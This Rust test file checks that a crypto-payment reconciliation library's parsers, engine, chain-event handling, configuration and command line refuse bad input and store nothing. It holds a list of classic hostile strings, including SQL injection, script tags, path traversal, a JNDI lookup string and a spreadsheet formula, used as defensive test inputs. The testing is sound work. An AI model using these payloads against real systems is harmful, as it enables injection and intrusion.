//! Bad input at every boundary the shop, finance and operators reach: the library's parsers
//! and engine calls, chain events from a watcher, configuration and the command line (the
//! HTTP boundary is in `api.rs`). Each refusal is a typed error that names what is wrong,
//! and the database holds exactly what it held before, row for row, in every table.

use crate::common;

use std::collections::BTreeMap;
use std::ffi::{OsStr, OsString};
use std::os::unix::ffi::OsStrExt;
use std::process::Command;

use common::payments::{Tx, config, engine, start_time};
use common::{Db, TestDb, rental, topup};
use payrecon::Action;
use payrecon::Error;
use payrecon::Usd;
use payrecon::{AccountId, OrderRef, RentalOrderRequest};
use payrecon_chain_core::{Amount, ChainEvent, Method, Network};
use proptest::prelude::*;

/// Strings people and attackers send where an identifier belongs.
const HOSTILE: &[&str] = &[
    "",
    " ",
    "x'; DROP TABLE orders;--",
    "1 OR 1=1",
    "<script>alert(1)</script>",
    "=HYPERLINK(\"http://x\")",
    "../../etc/passwd",
    "a\nb",
    "a\0b",
    "\u{202e}gnp.exe",
    "caf\u{e9}",
    "\u{1F4B8}",
    "%00",
    "${jndi:ldap://x/a}",
];

/// Every table's row count: what "nothing stored" is checked against.
async fn stored(db: &TestDb) -> BTreeMap<String, i64> {
    sqlx::any::install_default_drivers();
    let pool = sqlx::AnyPool::connect(&db.url).await.unwrap();
    let list_tables = match db.db {
        Db::Sqlite => {
            "SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%'"
        }
        Db::Postgres => {
            "SELECT table_name::text FROM information_schema.tables WHERE table_schema = current_schema()"
        }
    };
    let tables: Vec<String> = sqlx::query_scalar(list_tables)
        .fetch_all(&pool)
        .await
        .unwrap();
    let mut counts = BTreeMap::new();
    for table in tables {
        let sql = format!("SELECT count(*) FROM \"{table}\"");
        let count: i64 = sqlx::query_scalar(sqlx::AssertSqlSafe(sql))
            .fetch_one(&pool)
            .await
            .unwrap();
        counts.insert(table, count);
    }
    pool.close().await;
    assert!(counts.len() > 10, "every table counted: {counts:?}");
    counts
}

/// Asserts `result` is the error `expected` describes, and that nothing was stored.
async fn refused<T: std::fmt::Debug>(
    db: &TestDb,
    before: &BTreeMap<String, i64>,
    what: &str,
    result: Result<T, Error>,
    expected: &str,
) {
    match result {
        Ok(value) => panic!("{what}: accepted as {value:?}"),
        Err(error) => {
            let message = error.to_string();
            assert!(
                message.contains(expected),
                "{what}: {message:?} should say {expected:?}"
            );
            assert!(!message.contains('\n'), "{what}: one line: {message:?}");
        }
    }
    assert_eq!(&stored(db).await, before, "{what}: nothing stored");
}

#[test]
fn hostile_identifiers_and_amounts_are_refused_with_a_reason() {
    for text in HOSTILE {
        let reference = OrderRef::new(*text).unwrap_err().to_string();
        assert!(reference.contains("reference"), "{text:?}: {reference}");
        assert!(AccountId::new(*text).is_err(), "{text:?}");
    }
    assert!(
        OrderRef::new("x".repeat(10_000))
            .unwrap_err()
            .to_string()
            .contains("characters")
    );
    for (text, says) in [
        ("-100", "negative"),
        ("1e3", "decimal"),
        ("1,000", "decimal"),
        (" 100", "decimal"),
        ("NaN", "decimal"),
        ("0x64", "decimal"),
        ("", "decimal"),
        ("100.001", "decimal places"),
        ("99999999999999999999999999999999", "large"),
        ("340282366920938463463374607431768211456", "decimal"),
    ] {
        let error = text.parse::<Usd>().unwrap_err().to_string();
        assert!(
            error.contains(says),
            "{text:?}: {error:?} should say {says:?}"
        );
    }
    for text in ["doge", "", "BTC ", "btc\0", "usdt", "eth;", "\u{1F4B8}"] {
        let error = text.parse::<Method>().unwrap_err().to_string();
        assert!(
            error.contains("unknown payment method"),
            "{text:?}: {error}"
        );
    }
    assert!("moon".parse::<Network>().is_err());
}

proptest! {
    /// Whatever text arrives, parsing it is an answer, never a panic; and what parses
    /// prints back as itself.
    #[test]
    fn any_text_parses_or_is_refused(text in ".{0,80}|[0-9.]{0,40}|[A-Za-z0-9_.-]{0,80}") {
        if let Ok(usd) = text.parse::<Usd>() {
            prop_assert_eq!(usd.to_string().parse::<Usd>().unwrap(), usd);
        }
        if let Ok(reference) = OrderRef::new(text.clone()) {
            prop_assert_eq!(reference.as_str(), text.as_str());
        }
        let _ = AccountId::new(text.clone());
        let _ = text.parse::<Method>();
        let _ = Amount::from_decimal_str(&text, 18);
    }
}

on_both_databases! {
    async fn the_engine_refuses_bad_requests_and_stores_nothing(db) {
        let (engine, _clock) = engine(&db, config(|c| c.payments.enabled_methods = vec![Method::Btc])).await;
        engine.create_topup(&topup("T1", "42", "100")).await.unwrap();
        engine.create_rental_order(&rental("R1", "42", "420")).await.unwrap();
        let before = stored(&db).await;

        for text in HOSTILE {
            let hostile_reference = payrecon::TopupRequest { reference: (*text).into(), account_id: "42".into(), amount_usd: Usd::from_dollars(100) };
            refused(&db, &before, "hostile reference", engine.create_topup(&hostile_reference).await, "reference").await;
            let hostile_account = payrecon::TopupRequest { reference: "T3".into(), account_id: (*text).into(), amount_usd: Usd::from_dollars(100) };
            refused(&db, &before, "hostile account", engine.create_topup(&hostile_account).await, "account").await;
        }
        let before = stored(&db).await;
        refused(&db, &before, "top-up of 250", engine.create_topup(&topup("T4", "42", "250")).await, "100, 500, 2000 or 10000").await;
        refused(&db, &before, "zero total", engine.create_rental_order(&rental("R2", "42", "0")).await, "").await;
        let odd = |tweak: fn(&mut RentalOrderRequest)| {
            let mut request = rental("R3", "42", "420");
            tweak(&mut request);
            request
        };
        refused(&db, &before, "5 days", engine.create_rental_order(&odd(|r| r.duration_days = 5)).await, "3, 7 or 30 days").await;
        refused(&db, &before, "u32::MAX lots", engine.create_rental_order(&odd(|r| r.lots = u32::MAX)).await, "lots must be 1 to 10").await;
        refused(&db, &before, "unknown GPU", engine.create_rental_order(&odd(|r| r.gpu_model = "H100'; --".into())).await, "").await;
        refused(&db, &before, "same reference, other content", engine.create_rental_order(&rental("R1", "42", "421")).await, "already exists with different content").await;
        refused(&db, &before, "top-up reference reused", engine.create_rental_order(&rental("T1", "42", "100")).await, "already exists").await;
        let order = |r: &str| OrderRef::new(r).unwrap();
        refused(&db, &before, "unknown order", engine.create_payment(&order("NOPE"), Method::Btc).await, "unknown order NOPE").await;
        refused(&db, &before, "disabled method", engine.create_payment(&order("R1"), Method::Sol).await, "not enabled").await;
        refused(&db, &before, "short balance", engine.pay_order_from_balance(&order("R1")).await, "insufficient balance").await;
        refused(&db, &before, "top-up from balance", engine.pay_order_from_balance(&order("T1")).await, "cannot be paid from the balance").await;
        for id in ["pi_nope", "", "x'; DROP TABLE payment_intents;--", &"9".repeat(5000)] {
            refused(&db, &before, "unknown intent", engine.mark_paid(id).await, "unknown payment intent").await;
            refused(&db, &before, "unknown exception", engine.resolve_exception(id, &Action::Dismiss, "ops", "a reason").await, "").await;
        }
    }

    async fn a_batch_with_one_bad_chain_event_stores_none_of_it(db) {
        let (engine, _clock) = engine(&db, config(|_| {})).await;
        engine.create_topup(&topup("T1", "42", "100")).await.unwrap();
        let pay = engine.create_payment(&OrderRef::new("T1").unwrap(), Method::Btc).await.unwrap();
        let good = Tx::new(Network::Bitcoin, "aa", &pay.intent.watch_key, Method::Btc, pay.intent.amount.base_units(), start_time()).observed(1, 1);
        let before = stored(&db).await;
        let with = |mut bad: ChainEvent, edit: fn(&mut ChainEvent)| {
            edit(&mut bad);
            vec![good.clone(), bad]
        };
        let template = Tx::new(Network::Bitcoin, "bb", "bc1qwhoever", Method::Btc, 1, start_time()).observed(1, 1);
        let cases: Vec<(&str, Vec<ChainEvent>)> = vec![
            ("empty txid", with(template.clone(), |e| set_txid(e, ""))),
            ("huge txid", with(template.clone(), |e| set_txid(e, &"f".repeat(10_000)))),
            ("control characters", with(template.clone(), |e| set_txid(e, "ab\ncd"))),
            ("injection txid", with(template.clone(), |e| set_txid(e, "x'; DROP TABLE transfers;--"))),
            ("empty address", with(template.clone(), |e| set_address(e, ""))),
            ("non-ASCII address", with(template.clone(), |e| set_address(e, "bc1q\u{202e}"))),
            ("confirmed without a block", with(template.clone(), |e| if let ChainEvent::Observed { block_height, .. } = e { *block_height = None })),
            ("block above the tip", with(template.clone(), |e| if let ChainEvent::Observed { block_height, .. } = e { *block_height = Some(u64::MAX) })),
            ("same transfer, another amount", vec![good.clone(), Tx::new(Network::Bitcoin, "aa", &pay.intent.watch_key, Method::Btc, 1, start_time()).observed(1, 1)]),
        ];
        for (what, batch) in cases {
            let result = engine.apply_chain_events(&batch).await;
            refused(&db, &before, what, result, "invalid chain event").await;
        }
        engine.apply_chain_events(std::slice::from_ref(&good)).await.unwrap();
        assert_ne!(stored(&db).await, before, "the good event alone is stored");
    }
}

fn set_txid(event: &mut ChainEvent, txid: &str) {
    if let ChainEvent::Observed { transfer, .. } = event {
        transfer.id.txid = txid.to_owned();
    }
}

fn set_address(event: &mut ChainEvent, address: &str) {
    if let ChainEvent::Observed { transfer, .. } = event {
        transfer.to_address = address.to_owned();
    }
}

/// Breaks one key of a working configuration.
type Breaks = fn(&mut payrecon::config::Config);

/// One configuration section broken at a time: the engine refuses to start and the error
/// names the key.
#[tokio::test]
async fn a_broken_configuration_names_the_key() {
    let cases: Vec<(&str, Breaks)> = vec![
        ("networks.bitcoin.xpub", |c| {
            c.networks.bitcoin.as_mut().unwrap().xpub = "xpub-not-a-key".into()
        }),
        ("networks.bitcoin.xpub", |c| {
            c.networks.bitcoin.as_mut().unwrap().xpub = "xprv9s21ZrQH143K3QTDL4LXw2F7HEK3wJUD2nW2nRk4stbPy6cq3jPPqjiChkVvvNKmPGJxWUtg6LnF5kejMRNNU3TGtRBeJgk33yuGBxrMPHi".into()
        }),
        ("networks.litecoin.xpub", |c| {
            c.networks.litecoin.as_mut().unwrap().xpub = "Ltub".repeat(28)
        }),
        ("networks.ethereum.xpub", |c| {
            c.networks.ethereum.as_mut().unwrap().xpub = String::new()
        }),
        ("networks.tron.xpub", |c| {
            c.networks.tron.as_mut().unwrap().xpub = "x'; DROP TABLE orders;--".into()
        }),
        ("networks.tron.usdt_contract", |c| {
            c.networks.tron.as_mut().unwrap().usdt_contract =
                "TR7NHqjeKQxGTCi8q8ZY4pL8otSzgjLj6x".into()
        }),
        ("networks.solana.recipient", |c| {
            c.networks.solana.as_mut().unwrap().recipient = "not base58 0OIl".into()
        }),
        ("networks.bitcoin.network", |c| {
            c.networks.bitcoin.as_mut().unwrap().network = "moonnet".into()
        }),
        // A mainnet zpub on a regtest chain, a test vpub on mainnet.
        ("networks.bitcoin.xpub is a mainnet key", |c| {
            c.networks.bitcoin.as_mut().unwrap().network = "regtest".into()
        }),
        ("networks.litecoin.xpub is a test key", |c| {
            c.networks.litecoin.as_mut().unwrap().xpub = "vpub5Y6cjg78GGuNLsaPhmYsiw4gYX3HoQiRBiSwDaBXKUafCt9bNwWQiitDk5VZ5BVxYnQdwoTyXSs2JHRPAgjAvtbBrf8ZhDYe2jWAqvZVnsc".into()
        }),
    ];
    for (key, breaks) in cases {
        let db = TestDb::new(Db::Sqlite).await;
        let config = config(|c| {
            c.database_url = db.url.clone().into();
            breaks(c);
        });
        let error = match payrecon::Engine::from_config(&config).await {
            Ok(_) => panic!("{key}: a broken configuration was accepted"),
            Err(error) => error.to_string(),
        };
        assert!(error.contains(key), "{key}: {error:?} should name the key");
        assert!(!error.contains('\n'), "{key}: one line: {error:?}");
    }
}

/// The command line: arguments that are not UTF-8, numbers past every width, unknown
/// methods, a configuration file with a broken key. One line on stderr, a non-zero exit,
/// nothing on stdout, nothing stored.
#[tokio::test]
async fn the_command_line_refuses_bad_arguments_in_one_line() {
    let db = TestDb::new(Db::Sqlite).await;
    let run = |args: &[OsString]| {
        Command::new(env!("CARGO_BIN_EXE_payrecon"))
            .arg("--database-url")
            .arg(&db.url)
            .args(args)
            .env_remove("PAYRECON_DATABASE_URL")
            .env_remove("PAYRECON_CONFIG")
            .current_dir(std::env::temp_dir())
            .output()
            .unwrap()
    };
    let words = |line: &str| -> Vec<OsString> { line.split(' ').map(OsString::from).collect() };
    assert!(run(&words("init")).status.success());
    let before = stored(&db).await;
    let dir = tempfile::tempdir().unwrap();
    let broken_config = dir.path().join("broken.toml");
    std::fs::write(
        &broken_config,
        "[networks.bitcoin]\nxpub = \"xpub-not-a-key\"\nnetwork = \"mainnet\"\nconfirmations = 2\n",
    )
    .unwrap();
    let unreadable_config = dir.path().join("unreadable.toml");
    std::fs::write(&unreadable_config, b"[payments\n\xff\xfe").unwrap();
    let with_config = |config: &std::path::Path, line: &str| -> Vec<OsString> {
        [OsString::from("--config"), config.as_os_str().to_owned()]
            .into_iter()
            .chain(words(line))
            .collect()
    };
    let mut not_utf8 = words("topup create --amount-usd 100 --reference T1 --account");
    not_utf8.push(OsStr::from_bytes(b"4\xff2").to_owned());
    let order = |days: &str, lots: &str| {
        words(&format!(
            "order create --reference R1 --account 42 --gpu H100 --days {days} --lots {lots} --total-usd 1"
        ))
    };
    let cases: Vec<(Vec<OsString>, &str)> = vec![
        (not_utf8, "UTF-8"),
        (
            words("topup create --account 42 --amount-usd 1e400 --reference T1"),
            "decimal",
        ),
        (
            words(
                "topup create --account 42 --amount-usd 340282366920938463463374607431768211457 --reference T1",
            ),
            "decimal",
        ),
        (order("99999999999999999999999", "1"), "days"),
        (order("7", "-1"), "lots"),
        (
            words("order show <script>alert(1)</script>"),
            "invalid order reference",
        ),
        (
            words("pay create --order R1 --method doge"),
            "unknown payment method",
        ),
        (words("frobnicate"), "frobnicate"),
        (
            with_config(&broken_config, "pay show pi_1"),
            "networks.bitcoin.xpub",
        ),
        (
            with_config(&unreadable_config, "pay show pi_1"),
            "unreadable.toml",
        ),
    ];
    for (args, says) in cases {
        let output = run(&args);
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert!(!output.status.success(), "{args:?} must fail");
        assert!(output.stdout.is_empty(), "{args:?}: nothing on stdout");
        assert_eq!(
            stderr.trim_end().lines().count(),
            1,
            "{args:?}: one line: {stderr}"
        );
        assert!(
            stderr.contains(says),
            "{args:?}: {stderr:?} should say {says:?}"
        );
        assert_eq!(stored(&db).await, before, "{args:?}: nothing stored");
    }
}
